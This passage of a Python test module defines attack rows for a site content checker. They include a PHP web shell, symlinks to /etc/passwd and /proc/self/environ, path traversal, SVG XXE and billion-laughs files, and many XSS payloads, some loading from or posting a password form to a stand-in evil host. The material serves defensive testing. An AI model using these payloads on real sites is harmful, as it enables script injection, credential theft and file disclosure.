"""The attacks of the hostile-content suite (issue 15, section "Tests"): one row per attack.

Each row writes real files into a test site (hostile_site.Site: a minimal valid site plus decoys beside
content/). `§M` in a payload is replaced by the attack's marker, a unique word that tags what it wrote.

Which file `make check` must name (column `names`, any one of them), per class:
  "path:N"  the file and a line (`content/x.md:12: …`): classes 4 to 8, where a field or a text line is at fault
            (an SVG logo may instead be named by the SVG file alone; a front matter over 64 KB by its file);
  "path"    the file or folder, a line may be absent: classes 1 to 3 (hidden files, content/files, symbolic
            links), where the whole file is at fault;
  "path*"   a prefix of the path: class 9 file names with control characters, which are printed escaped.
Builds (column `build`):
  "markup"  bodies and plain-text fields (classes 6 and 7): one shared build without the checker must contain
            them all (and one shared build with the checker must refuse them);
  "own"     file-system and parser attacks: a build of their own without the checker, which may refuse;
  "alone"   input that may crash or hang a parser: also their own build with the checker, and the
            checker in a subprocess.
"""

from __future__ import annotations

import dataclasses
import datetime
import shutil
from collections.abc import Callable
from dataclasses import dataclass

import yaml
from hostile_site import EVIL, Site, jpeg, marker_for

from sitefiles import BODY, STORY_YAML, actor_fields, story_fields


@dataclass(frozen=True)
class Attack:
    """One attack: what it writes, which file the checker must name, how the build must treat it."""

    id: str
    cls: int
    note: str
    write: Callable[[Site], object]
    names: tuple[str, ...]
    build: str = "own"
    publishable: bool = True  # False: its marker must appear in no published file at all
    body: bool = False  # its marker is in a Markdown text only: that text must stay inside <main>
    in_title: bool = False  # its marker is in a title: it may be a search result's title
    forbid: tuple[str, ...] = ()  # files below content/ whose bytes must never be published as they are
    page: str = ""  # the page of the attacked document, for markup attacks

    @property
    def marker(self) -> str:
        """The word that tags everything this attack writes."""
        return marker_for(self.id)


def _story_text(body: str = "", **changes) -> str:
    front = yaml.safe_dump(story_fields(**changes), allow_unicode=True, sort_keys=False)
    return f"---\n{front}---\n\n{BODY}\n{body}\n"


SCRIPT = "<script>alert('§M')</script>"
HIDDEN_STORY = _story_text(f"§M geheim\n\n{SCRIPT}")
HIDDEN_ACTOR = yaml.safe_dump(actor_fields(description=f"§M geheim {SCRIPT}"), allow_unicode=True)
HIDDEN_PAGE = f"---\ntitle: Versteckt\nslug: versteckt\nsummary: Versteckt.\n---\n\n§M geheim\n\n{SCRIPT}\n"


def _hidden(attack_id, note, relative, text, name) -> Attack:
    return Attack(attack_id, 1, note, lambda s: s.write(relative, text), (name,), publishable=False, forbid=(relative,))


def _file(attack_id, note, relative, data, extra=None) -> Attack:
    def write(site):
        site.write(relative, data() if callable(data) else data)
        if extra:
            extra(site)

    return Attack(attack_id, 2, note, write, (f"content/{relative}",), publishable=False, forbid=(relative,))


def _link(attack_id, note, relative, target, name=None, extra=None) -> Attack:
    def write(site):
        site.link(relative, target(site) if callable(target) else target)
        if extra:
            extra(site)

    names = (name,) if isinstance(name, str) else name or (f"content/{relative}",)
    return Attack(attack_id, 3, note, write, names, publishable=False)


def _body(attack_id, cls, note, payload, where="story", build="markup") -> Attack:
    if where == "page":
        return Attack(attack_id, cls, note, lambda s: s.page(attack_id, body=f"Ein kurzer Text.\n\n{payload}\n"),
                      (f"content/pages/{attack_id}.md:N",), build, body=True, page=f"{attack_id}/index.html")
    if where == "actor":
        return Attack(attack_id, cls, note, lambda s: s.actor(attack_id, description=f"Der Verein berät Familien.\n\n{payload}\n"),
                      (f"content/actors/{attack_id}.yml:N",), build, body=True, page=f"akteure/{attack_id}/index.html")
    return Attack(attack_id, cls, note, lambda s: s.story(attack_id, body=f"\n{payload}\n\nDanach geht der Text weiter.\n"),
                  (f"content/stories/{attack_id}.md:N",), build, body=True, page=f"geschichten/{attack_id}/index.html")


def _story(attack_id, cls, note, build="markup", in_title=False, **changes) -> Attack:
    return Attack(attack_id, cls, note, lambda s: s.story(attack_id, **changes), (f"content/stories/{attack_id}.md:N",),
                  build, in_title=in_title, page=f"geschichten/{attack_id}/index.html")


def _actor(attack_id, cls, note, build="markup", in_title=False, **changes) -> Attack:
    return Attack(attack_id, cls, note, lambda s: s.actor(attack_id, **changes), (f"content/actors/{attack_id}.yml:N",),
                  build, in_title=in_title, page=f"akteure/{attack_id}/index.html")


def _page(attack_id, cls, note, build="markup", in_title=False, **changes) -> Attack:
    return Attack(attack_id, cls, note, lambda s: s.page(attack_id, **changes), (f"content/pages/{attack_id}.md:N",),
                  build, in_title=in_title, page=f"{attack_id}/index.html")


def _raw(attack_id, cls, note, front_matter, build="own", names=None, body=BODY) -> Attack:
    return Attack(attack_id, cls, note, lambda s: s.raw_story(attack_id, front_matter, body),
                  names or (f"content/stories/{attack_id}.md:N",), build)


def _logo(attack_id, note, svg) -> Attack:
    def write(site):
        site.write(f"images/logos/{attack_id}.svg", svg)
        site.actor(attack_id, logo={"src": f"images/logos/{attack_id}.svg", "alt": "Logo des Vereins"})

    return Attack(attack_id, 5, note, write, (f"content/actors/{attack_id}.yml:N", f"content/images/logos/{attack_id}.svg"))


SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"'
RECT = '<rect width="10" height="10" fill="#369"/>'
TRANSFER = {"costs": {"min": 1000, "max": 2000}, "staff": "eine Person", "duration": "drei Monate"}


def _materials(file=None, url=None) -> dict:
    return {**TRANSFER, "materials": [{"title": "Plan", **({"file": file} if file else {"url": url})}]}


def _image_attack(attack_id, cls, note, src, names=None) -> Attack:
    def write(site):
        value = src(site) if callable(src) else src
        site.story(attack_id, image={**story_fields()["image"], "src": value})

    return Attack(attack_id, cls, note, write, names or (f"content/stories/{attack_id}.md:N",))


def _replace_folder(relative, target):
    def write(site):
        shutil.rmtree(site.files.path(relative), ignore_errors=True)
        site.link(relative, target(site))

    return write


HIDDEN = [
    _hidden("c1-hidden-story", "a story whose name starts with a dot", "stories/.versteckt.md", HIDDEN_STORY, "content/stories/.versteckt.md"),
    _hidden("c1-hidden-page", "a page whose name starts with a dot", "pages/.versteckt.md", HIDDEN_PAGE, "content/pages/.versteckt.md"),
    _hidden("c1-hidden-actor", "an actor whose name starts with a dot", "actors/.versteckt.yml", HIDDEN_ACTOR, "content/actors/.versteckt.yml"),
    _hidden("c1-hidden-story-folder", "a story in a hidden folder", "stories/.geheim/geschichte.md", HIDDEN_STORY, "content/stories/.geheim"),
    _hidden("c1-hidden-page-folder", "a page in a hidden folder", "pages/.entwurf/seite.md", HIDDEN_PAGE, "content/pages/.entwurf"),
    _hidden("c1-files-dotfile", "a dotfile in content/files", "files/.env", "TOKEN=§M\n", "content/files/.env"),
    _hidden("c1-files-hidden-folder", "a document in a hidden folder of content/files", "files/.intern/plan.pdf",
            "%PDF-1.4\n% §M\n%%EOF\n", "content/files/.intern"),
    _hidden("c1-content-root-dotfile", "a server configuration file at the top of content/", ".htaccess", "Header set X-Angriff §M\n",
            "content/.htaccess"),
    _hidden("c1-hidden-vocabulary", "a hidden file among the vocabularies", "data/.versteckt.yml", "- id: §M\n  label: §M\n",
            "content/data/.versteckt.yml"),
    Attack("c1-hidden-image", 1, "a hidden image in content/images", lambda s: jpeg(s.files.path("images/.versteckt.jpg")),
           ("content/images/.versteckt.jpg",), publishable=False, forbid=("images/.versteckt.jpg",)),
]

SVG_SCRIPT = f"{SVG_OPEN}><script>alert('§M')</script>{RECT}</svg>\n"
FILES = [
    _file("c2-js", "JavaScript in content/files (script-src 'self' would run it)", "files/c2-skript.js", "alert('§M');\n"),
    _file("c2-mjs", "a JavaScript module", "files/c2-modul.mjs", "export default alert('§M');\n"),
    _file("c2-html", "an HTML page (a same-origin page without CSP)", "files/c2-seite.html", f"<!doctype html><p>§M</p>{SCRIPT}\n"),
    _file("c2-htm", "an .htm page", "files/c2-seite.htm", f"<p>§M</p>{SCRIPT}\n"),
    _file("c2-xhtml", "an .xhtml page", "files/c2-seite.xhtml", f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{SCRIPT}</body></html>\n'),
    _file("c2-svg", "an SVG with a script", "files/c2-grafik.svg", SVG_SCRIPT),
    _file("c2-xml", "XML with an XHTML script", "files/c2-daten.xml",
          '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(\'§M\')</x:script>\n'),
    _file("c2-wasm", "a WebAssembly module", "files/c2-modul.wasm", lambda: b"\x00asm\x01\x00\x00\x00" + b"zz"),
    _file("c2-php", "a PHP script", "files/c2-shell.php", "<?php echo '§M'; system($_GET['c']); ?>\n"),
    _file("c2-css", "a stylesheet that loads from another host", "files/c2-stil.css", f"body {{ background: url({EVIL}/§M.png) }}\n"),
    Attack("c2-gps-photo", 2, "a JPEG with its GPS position (images belong in content/images)",
           lambda s: jpeg(s.files.path("files/c2-foto.jpg"), gps=True), ("content/files/c2-foto.jpg",), publishable=False,
           forbid=("files/c2-foto.jpg",)),
    Attack("c2-png", 2, "a PNG image in content/files", lambda s: jpeg(s.files.path("files/c2-karte.png")),
           ("content/files/c2-karte.png",), publishable=False, forbid=("files/c2-karte.png",)),
    _file("c2-no-extension", "a file without an extension", "files/C2-LIESMICH", f"<html><body>{SCRIPT}</body></html>\n"),
    _file("c2-double-extension", "a double extension that ends in .html", "files/c2-bericht.pdf.html", f"<p>§M</p>{SCRIPT}\n"),
    _file("c2-upper-case-js", "an upper-case .JS extension", "files/C2-SKRIPT.JS", "alert('§M');\n"),
    _file("c2-upper-case-html", "an upper-case .HTML extension", "files/C2-Seite.HTML", f"<p>§M</p>{SCRIPT}\n"),
    _file("c2-nested-js", "JavaScript in a sub-folder of content/files", "files/c2-ordner/skript.js", "alert('§M');\n"),
    _file("c2-markdown", "a Markdown file with raw HTML in content/files", "files/c2-notiz.md", f"# Notiz\n\n§M\n\n{SCRIPT}\n"),
    Attack("c2-material-html", 2, "an HTML page named as a replication material",
           lambda s: (s.write("files/c2-anleitung.html", f"<p>§M</p>{SCRIPT}\n"),
                      s.story("c2-material-html", transfer=_materials(file="files/c2-anleitung.html"))),
           ("content/files/c2-anleitung.html", "content/stories/c2-material-html.md:N"), publishable=False,
           forbid=("files/c2-anleitung.html",)),
]

LINKS = [
    _link("c3-etc-hostname", "a document linked to /etc/hostname", "files/c3-rechner.txt", "/etc/hostname"),
    _link("c3-proc-environ", "a document linked to /proc/self/environ (the build's environment)", "files/c3-umgebung.txt",
          "/proc/self/environ"),
    _link("c3-etc-folder", "a folder of content/files linked to /etc", "files/c3-etc", "/etc"),
    _link("c3-relative-escape", "a relative link escaping with ../..", "files/c3-geheim.txt", "../../geheim.txt"),
    _link("c3-repository-file", "a link to a repository file outside content/", "files/c3-einstellungen.txt",
          lambda s: s.decoys["config"]),
    _link("c3-story-outside", "a story linked to a file outside content/", "stories/c3-story-outside.md", lambda s: s.decoys["story"]),
    _link("c3-story-inside", "a story linked to another story", "stories/c3-story-inside.md", "beratung-per-video.md"),
    _link("c3-image", "a story image linked to a photo outside content/", "images/c3-bild.jpg", lambda s: s.decoys["photo"],
          name=("content/images/c3-bild.jpg", "content/stories/c3-image.md:N"),
          extra=lambda s: s.story("c3-image", image={**story_fields()["image"], "src": "images/c3-bild.jpg"})),
    Attack("c3-images-folder", 3, "content/images itself linked to a folder outside",
           _replace_folder("images", lambda s: str(s.root / "aussen" / "bilder")), ("content/images",), publishable=False),
    Attack("c3-files-folder", 3, "content/files itself linked to a folder outside",
           _replace_folder("files", lambda s: str(s.root / "aussen" / "dokumente")), ("content/files",), publishable=False),
    _link("c3-page-environ", "a page linked to /proc/self/environ", "pages/c3-umgebung.md", "/proc/self/environ"),
    _link("c3-actor-passwd", "an actor linked to /etc/passwd", "actors/c3-passwd.yml", "/etc/passwd"),
    _link("c3-vocabulary", "a vocabulary linked to a file outside content/", "data/stages.yml", lambda s: s.decoys["stages"]),
    _link("c3-loop", "a folder linked to its own parent (a loop)", "stories/c3-schleife", "."),
    _link("c3-dangling", "a document linked to nothing", "files/c3-weg.pdf", "../../gibt-es-nicht.pdf"),
]
# Replacing content/images or content/files affects the whole site: those attacks need a site of their own.
ALONE_IDS = {"c3-images-folder", "c3-files-folder"}

FAVICON = "/images/../../theme/static/img/favicon.svg"
TRAVERSAL = [
    _body("c4-body-image", 4, "a body image that climbs out of content/ to a repository file", f"![Logo]({FAVICON})", build="own"),
    _body("c4-body-image-photo", 4, "a body image that climbs out to a photo", "![Bild](/images/../../bilder/aussen.jpg)", build="own"),
    _body("c4-static", 4, "{static} climbing out of content/", "[Datei]({static}/../geheim.txt)", build="own"),
    _body("c4-filename", 4, "{filename} climbing out of content/", "[Datei]({filename}../../geheim.txt)", build="own"),
    _body("c4-attach", 4, "{attach} climbing out of content/ (Pelican copies attached files)", "[Datei]({attach}../../geheim.txt)",
          build="own"),
    _body("c4-filename-story", 4, "{filename} naming a story outside content/", "[Mehr]({filename}../../aussen/geschichte.md)",
          build="own"),
    _body("c4-static-etc", 4, "{static} to /etc/passwd", "[x]({static}/../../../../../../../../../etc/passwd)", build="own"),
    _image_attack("c4-image-src", 4, "image.src climbing out to a photo", "images/../../bilder/aussen.jpg"),
    Attack("c4-logo-src", 4, "logo.src climbing out to a repository SVG",
           lambda s: s.actor("c4-logo-src", logo={"src": "images/../../theme/static/img/favicon.svg", "alt": "Logo"}),
           ("content/actors/c4-logo-src.yml:N",)),
    _story("c4-materials", 4, "a replication material file climbing out of content/", build="own",
           transfer=_materials(file="files/../../geheim.txt")),
    _body("c4-percent-body", 4, "percent-encoded dots in a body image", "![x](/images/%2e%2e/%2e%2e/theme/static/img/favicon.svg)",
          build="own"),
    _body("c4-percent-slash", 4, "percent-encoded slashes in a body image", "![x](/images/..%2f..%2ftheme%2fstatic%2fimg%2ffavicon.svg)",
          build="own"),
    _image_attack("c4-percent-src", 4, "percent-encoded dots in image.src", "images/%2e%2e/%2e%2e/bilder/aussen.jpg"),
    _body("c4-backslash-body", 4, "backslashes in a body image", '<img src="/images/..\\..\\theme\\static\\img\\favicon.svg" alt="x">',
          build="own"),
    _image_attack("c4-backslash-src", 4, "backslashes in image.src", "images\\..\\..\\bilder\\aussen.jpg"),
    _image_attack("c4-absolute-src", 4, "image.src as an absolute path outside content/", lambda s: s.decoys["photo"]),
    Attack("c4-absolute-logo", 4, "logo.src as an absolute path to a repository SVG",
           lambda s: s.actor("c4-absolute-logo", logo={"src": s.decoys["favicon"], "alt": "Logo"}), ("content/actors/c4-absolute-logo.yml:N",)),
    Attack("c4-absolute-materials", 4, "a material file as an absolute path",
           lambda s: s.story("c4-absolute-materials", transfer=_materials(file=s.decoys["secret"])),
           ("content/stories/c4-absolute-materials.md:N",)),
    _body("c4-file-url", 4, "a body image from file:///etc/passwd", '<img src="file:///etc/passwd" alt="x">', build="own"),
    _image_attack("c4-nul-src", 4, "a NUL byte in image.src", "images/beratung.jpg\x00.svg"),
    _story("c4-nul-materials", 4, "a NUL byte in a material file", build="own", transfer=_materials(file="files/plan.pdf\x00.html")),
    _body("c4-nul-body", 4, "an encoded NUL byte in a body image", "![x](/images/beratung.jpg%00/../../../theme/static/img/favicon.svg)",
          build="own"),
    _body("c4-reference", 4, "a reference-style image climbing out", f"![Logo][bild]\n\n[bild]: {FAVICON}", build="own"),
    _body("c4-dots-inside", 4, "'..' that stays inside content/ (still refused)", "![Bild](/images/../images/beratung.jpg)", build="own"),
    _body("c4-double-slash", 4, "empty segments and '..' in a body image", "![x](/images//..//..//theme/static/img/favicon.svg)", build="own"),
    _body("c4-actor-image", 4, "an actor description image climbing out", f"![Logo]({FAVICON})", where="actor", build="own"),
    _body("c4-page-image", 4, "a page image climbing out", f"![Logo]({FAVICON})", where="page", build="own"),
]

SVG_ATTACKS = [
    _logo("c5-script", "an SVG logo with <script>", SVG_SCRIPT),
    _logo("c5-xhtml-script", "<h:script> in the XHTML namespace",
          f'{SVG_OPEN}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(\'§M\')</h:script>{RECT}</svg>\n'),
    _logo("c5-billion-laughs", "a DOCTYPE with nested entities (billion laughs)",
          '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY a "§M§M§M§M§M§M§M§M§M§M">\n'
          + "".join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">\n' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
          + f"]>\n{SVG_OPEN}><text>&i;</text>{RECT}</svg>\n"),
    _logo("c5-external-entity", "an external SYSTEM entity reading /etc/passwd",
          f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n{SVG_OPEN}><text>§M &x;</text>{RECT}</svg>\n'),
    _logo("c5-animate-href", "<animate> setting href to javascript:",
          f'{SVG_OPEN}><a><animate attributeName="href" values="javascript:alert(\'§M\')"/><text y="5">x</text></a>{RECT}</svg>\n'),
    _logo("c5-set-href", "<set> setting href to javascript:",
          f'{SVG_OPEN}><a><set attributeName="href" to="javascript:alert(\'§M\')"/><text y="5">x</text></a>{RECT}</svg>\n'),
    _logo("c5-animate-xlink", "<animate> setting xlink:href",
          f'{SVG_OPEN}><a xlink:href="#"><animate attributeName="xlink:href" to="javascript:alert(\'§M\')"/>{RECT}</a></svg>\n'),
    _logo("c5-set-handler", "<set> writing an event handler",
          f'{SVG_OPEN}>{RECT}<set attributeName="onmouseover" to="alert(\'§M\')"/></svg>\n'),
    _logo("c5-foreign-object", "<foreignObject> with HTML and a script",
          f'{SVG_OPEN}><foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><p>§M</p>'
          f"{SCRIPT}</body></foreignObject></svg>\n"),
    _logo("c5-onload-upper", "ONLOAD in upper case", f'{SVG_OPEN} ONLOAD="alert(\'§M\')">{RECT}</svg>\n'),
    _logo("c5-onload-nested", "an event handler on an inner element",
          f'{SVG_OPEN}><g><rect width="10" height="10" onmouseover="alert(\'§M\')"/></g></svg>\n'),
    _logo("c5-image-remote", "xlink:href to another host", f'{SVG_OPEN}><image xlink:href="{EVIL}/§M.png" width="10" height="10"/></svg>\n'),
    _logo("c5-use-remote", "<use href> to another host", f'{SVG_OPEN}><use href="{EVIL}/§M.svg#logo"/></svg>\n'),
    _logo("c5-style-import", "a <style> with @import", f"{SVG_OPEN}><style>@import url({EVIL}/§M.css);</style>{RECT}</svg>\n"),
    _logo("c5-style-url", "a style attribute with url(https://…)",
          f'{SVG_OPEN}><rect width="10" height="10" style="fill:url({EVIL}/§M.svg#p)"/></svg>\n'),
    _logo("c5-link-javascript", "<a xlink:href=javascript:>", f'{SVG_OPEN}><a xlink:href="javascript:alert(\'§M\')">{RECT}</a></svg>\n'),
    _logo("c5-link-entity", "a javascript: link written with character references",
          f'{SVG_OPEN}><a href="&#106;avascript:alert(\'§M\')">{RECT}</a></svg>\n'),
    _logo("c5-link-tab", "a javascript: link split by a tab", f'{SVG_OPEN}><a href="jav&#x09;ascript:alert(\'§M\')">{RECT}</a></svg>\n'),
    _logo("c5-script-href", "<script href> with a data: URL", f'{SVG_OPEN}><script href="data:text/javascript,alert(\'§M\')"/>{RECT}</svg>\n'),
    _logo("c5-handler", "an XML Events <handler>",
          f'{SVG_OPEN} xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">alert(\'§M\')</handler>{RECT}</svg>\n'),
    _logo("c5-feimage", "<feImage> loading from another host",
          f'{SVG_OPEN}><filter id="f"><feImage href="{EVIL}/§M.png"/></filter><rect width="10" height="10" filter="url(#f)"/></svg>\n'),
    _logo("c5-stylesheet-pi", "an xml-stylesheet processing instruction",
          f'<?xml version="1.0"?>\n<?xml-stylesheet href="{EVIL}/§M.css" type="text/css"?>\n{SVG_OPEN}>{RECT}</svg>\n'),
]

BODIES = [
    ("c6-mixed-case-handler", "a handler in mixed case", '<img src="/images/beratung.jpg" alt="Bild" OnErRoR="alert(\'§M\')">'),
    ("c6-svg-slash-onload", "<svg/onload=…>", "<svg/onload=alert('§M')>"),
    ("c6-quoted-gt", "a '>' inside a quoted attribute before the handler", '<a title="a>b" onclick="alert(\'§M\')" href="/">§M</a>'),
    ("c6-colon-entity", "javascript&colon;", '<a href="javascript&colon;alert(\'§M\')">§M</a>'),
    ("c6-decimal-entity", "a decimal character reference", '<a href="&#106;avascript:alert(\'§M\')">§M</a>'),
    ("c6-hex-entity", "hex character references", '<a href="&#x6A;&#x61;vascript:alert(\'§M\')">§M</a>'),
    ("c6-padded-entity", "zero-padded references without semicolons", '<a href="&#0000106&#0000097vascript:alert(\'§M\')">§M</a>'),
    ("c6-markdown-entity", "a Markdown link with a character reference", "[§M](&#106;avascript:alert('§M'))"),
    ("c6-markdown-tab", "a Markdown link split by an encoded tab", "[§M](java&#x09;script:alert('§M'))"),
    ("c6-reference-next-line", "a reference definition whose URL is on the next line", "[§M][ziel]\n\n[ziel]:\n    javascript:alert('§M')"),
    ("c6-escaped-backticks", "escaped backticks around HTML", "\\`<img src=x onerror=alert('§M')>\\`"),
    ("c6-code-in-html-block", "backticks inside an HTML block", f"<div>\n`{SCRIPT}`\n</div>"),
    ("c6-fence-one-space", "a fence indented by one space", f" ```\n{SCRIPT}\n ```"),
    ("c6-fence-three-spaces", "a fence indented by three spaces", f"   ```\n{SCRIPT}\n   ```"),
    ("c6-fence-tab", "a fence after a tab", f"\t```\n{SCRIPT}\n```"),
    ("c6-textarea", "an unclosed <textarea> swallowing the page", "<textarea>§M"),
    ("c6-plaintext", "<plaintext> swallowing the page", "<plaintext>§M"),
    ("c6-stray-main", "a stray </main>", "</main>\n\n§M steht jetzt außerhalb des Hauptbereichs."),
    ("c6-abrupt-comment", "'<!-->' ends a comment in HTML5, not in older parsers", "Text <!--><img src=x onerror=alert('§M')>-->"),
    ("c6-bang-comment", "'--!>' ends a comment in HTML5", "<!-- a --!><img src=x onerror=alert('§M')> -->"),
    ("c6-pagefind-meta", "data-pagefind-meta spoofing a search title", '<p data-pagefind-meta="title:§M">Text</p>'),
    ("c6-pagefind-filter", "data-pagefind-filter spoofing a result's type", '<span data-pagefind-filter="Typ:§M">Akteur</span>'),
    ("c6-theme-class", "the theme's own class making a link a full-screen overlay", '<a class="app-card__link §M" href="/">§M</a>'),
    ("c6-attribute-list-handler", "a Markdown attribute list with onclick", "Ein Absatz §M.\n{: onclick=\"alert('§M')\" }"),
    ("c6-attribute-list-style", "a Markdown attribute list with style and a theme class",
     "Ein Absatz §M.\n{: .app-card__link style=\"position:fixed;inset:0\" data-x=\"§M\" }"),
    ("c6-markdown-image-remote", "a Markdown image from another host", f"![§M]({EVIL}/§M.png)"),
    ("c6-protocol-relative", "an image from //another-host", "![x](//evil.example/§M.png)"),
    ("c6-backslash-host", "an image from /\\another-host (read as //)", '<img src="/\\evil.example/§M.png" alt="x">'),
    ("c6-img-remote", "a raw <img> from another host", f'<img src="{EVIL}/§M.png" alt="x">'),
    ("c6-srcset-remote", "srcset from another host", f'<img src="/images/beratung.jpg" srcset="{EVIL}/§M.png 2x" alt="x">'),
    ("c6-video-poster", "<video poster> from another host", f'<video poster="{EVIL}/§M.jpg" src="{EVIL}/§M.mp4"></video>'),
    ("c6-picture-source", "<picture><source> from another host",
     f'<picture><source srcset="{EVIL}/§M.avif"><img src="/images/beratung.jpg" alt="x"></picture>'),
    ("c6-audio", "<audio> from another host", f'<audio src="{EVIL}/§M.mp3" autoplay></audio>'),
    ("c6-iframe", "<iframe>", f'<iframe src="{EVIL}/§M"></iframe>'),
    ("c6-object", "<object>", f'<object data="{EVIL}/§M.swf"></object>'),
    ("c6-embed", "<embed>", f'<embed src="{EVIL}/§M.swf">'),
    ("c6-form", "a <form> asking for a password", f'<form action="{EVIL}/§M"><input name="passwort" type="password"><button>§M</button></form>'),
    ("c6-meta-refresh", "<meta http-equiv=refresh>", f'<meta http-equiv="refresh" content="0;url={EVIL}/§M">'),
    ("c6-base", "<base href>", f'<base href="{EVIL}/§M/">'),
    ("c6-link-stylesheet", "<link rel=stylesheet> from another host", f'<link rel="stylesheet" href="{EVIL}/§M.css">'),
    ("c6-style", "a <style> element", f"<style>body {{ background: url({EVIL}/§M.png) }}</style>"),
    ("c6-math", "<math> with a javascript: link", "<math><mi xlink:href=\"javascript:alert('§M')\">§M</mi></math>"),
    ("c6-svg-use", "inline <svg><use> from another host", f'<svg><use href="{EVIL}/§M.svg#x"></use></svg>'),
    ("c6-details-ontoggle", "ontoggle on <details>", "<details open ontoggle=\"alert('§M')\"><summary>§M</summary>x</details>"),
    ("c6-data-url", "a data:text/html link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">§M</a>'),
    ("c6-vbscript", "a vbscript: link", "<a href=\"vbscript:msgbox('§M')\">§M</a>"),
    ("c6-control-prefix", "a javascript: link behind a control character", "<a href=\"&#1;javascript:alert('§M')\">§M</a>"),
    ("c6-upper-script", "<SCRIPT> in upper case", "<SCRIPT>alert('§M')</SCRIPT>"),
    ("c6-footnote-html", "raw HTML in a footnote", "Text[^1]\n\n[^1]: <img src=x onerror=alert('§M')>"),
    ("c6-table-html", "raw HTML in a table cell", "| Spalte |\n| --- |\n| <img src=x onerror=alert('§M')> |"),
    ("c6-style-overlay", "a style attribute making an overlay", '<img src="/images/beratung.jpg" alt="x" style="position:fixed;inset:0" title="§M">'),
    ("c6-dialog", "<dialog open> over the page", "<dialog open>§M</dialog>"),
    ("c6-ping", "a link that pings another host", f'<a href="/" ping="{EVIL}/§M">§M</a>'),
    ("c6-noscript-mxss", "a handler hidden in a <noscript> attribute (mutation XSS)",
     "<noscript><p title=\"</noscript><img src=x onerror=alert('§M')>\"></noscript>"),
    ("c6-svg-style-mxss", "an image inside <svg><style> (mutation XSS)", "<svg><style><img src=x onerror=alert('§M')></style></svg>"),
    ("c6-newline-in-scheme", "a javascript: link split by a line break", "<a href=\"java\nscript:alert('§M')\">§M</a>"),
    ("c6-data-image", "an SVG image as a data: URL", "![§M](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)"),
    ("c6-table-background", "a table background from another host", f'<table background="{EVIL}/§M.png"><tr><td>§M</td></tr></table>'),
    ("c6-body-onload", "a stray <body> with onload", "<body onload=\"alert('§M')\">§M"),
    ("c6-id-spoof", "an id taking over an anchor of the page", '<p id="§M">Absatz</p>'),
]
PAGE_BODIES = [
    ("c6-page-script", "<script> in a page", SCRIPT),
    ("c6-page-onerror", "an onerror handler in a page", "<img src=x onerror=alert('§M')>"),
    ("c6-page-javascript-link", "a Markdown javascript: link in a page", "[§M](javascript:alert('§M'))"),
]
ACTOR_BODIES = [
    ("c6-actor-script", "<script> in an actor description", SCRIPT),
    ("c6-actor-svg-onload", "<svg/onload> in an actor description", "<svg/onload=alert('§M')>"),
    ("c6-actor-javascript-link", "a javascript: link in an actor description", "[§M](javascript:alert('§M'))"),
    ("c6-actor-remote-image", "an image from another host in an actor description", f"![x]({EVIL}/§M.png)"),
    ("c6-actor-textarea", "an unclosed <textarea> in an actor description", "<textarea>§M"),
]
MARKUP = (
    [_body(i, 6, n, p) for i, n, p in BODIES]
    + [_body(i, 6, n, p, where="page") for i, n, p in PAGE_BODIES]
    + [_body(i, 6, n, p, where="actor") for i, n, p in ACTOR_BODIES]
)

BREAK_SCRIPT = "</script><script>alert('§M')</script>"
BREAK_ATTRIBUTE = "\"><img src=x onerror=alert('§M')>"
IMAGE = story_fields()["image"]
FIELDS = [
    _story("c7-title-script", 7, "a title closing a script element", in_title=True, title=f"Titel {BREAK_SCRIPT}"),
    _story("c7-title-attribute", 7, "a title breaking out of an attribute", in_title=True, title=f"Titel {BREAK_ATTRIBUTE}"),
    _story("c7-summary-script", 7, "a summary closing a script element", summary=f"Kurz {BREAK_SCRIPT}"),
    _story("c7-summary-attribute", 7, "a summary breaking out of an attribute", summary=f"Kurz {BREAK_ATTRIBUTE}"),
    _story("c7-summary-markdown-link", 7, "a summary with a Markdown javascript: link", summary="Kurz [§M](javascript:alert('§M'))"),
    _story("c7-credit", 7, "an image credit with HTML", image={**IMAGE, "credit": "Foto: <img src=x onerror=alert('§M')>"}),
    _story("c7-alt", 7, "an image alt text breaking out of its attribute", image={**IMAGE, "alt": f"Bild{BREAK_ATTRIBUTE}"}),
    _story("c7-quote-text", 7, "a quote closing a script element", quotes=[{"text": f"Zitat {BREAK_SCRIPT}", "by": "Anna Beispiel"}]),
    _story("c7-quote-by", 7, "a quote's author with HTML", quotes=[{"text": "Ein Zitat.", "by": "<img src=x onerror=alert('§M')>"}]),
    _story("c7-fact-label", 7, "a fact label with an SVG handler",
           facts=[{"label": "\"><svg onload=alert('§M')>", "value": "3", "source": "Angabe"}]),
    _story("c7-fact-value", 7, "a fact value with a script", facts=[{"label": "Zahl", "value": SCRIPT, "source": "Angabe"}]),
    _story("c7-fact-source", 7, "a fact source with a javascript: link",
           facts=[{"label": "Zahl", "value": "3", "source": "<a href=\"javascript:alert('§M')\">Quelle §M</a>"}]),
    _story("c7-contact-name", 7, "a contact name closing a script element",
           contact={"name": f"Anna {BREAK_SCRIPT}", "email": "kontakt@example.org"}),
    _story("c7-reviewed-by", 7, "reviewed_by with HTML", reviewed="2025-06-01", reviewed_by="<img src=x onerror=alert('§M')>"),
    _story("c7-easy-summary", 7, "easy_summary with a script",
           easy_summary="Das ist ein Projekt. Es hilft Familien. Sie bekommen Beratung. Das ist gut. " + SCRIPT),
    _story("c7-transfer-lesson", 7, "a lesson with a script", transfer={**TRANSFER, "lessons": [f"Eine Lehre {SCRIPT}"]}),
    _story("c7-transfer-note", 7, "a cost note breaking out of an attribute",
           transfer={**TRANSFER, "costs": {"min": 1, "max": 2, "note": BREAK_ATTRIBUTE}}),
    _story("c7-quote-role", 7, "a quote's role with a script", quotes=[{"text": "Ein Zitat.", "by": "Anna", "role": f"Leiterin {SCRIPT}"}]),
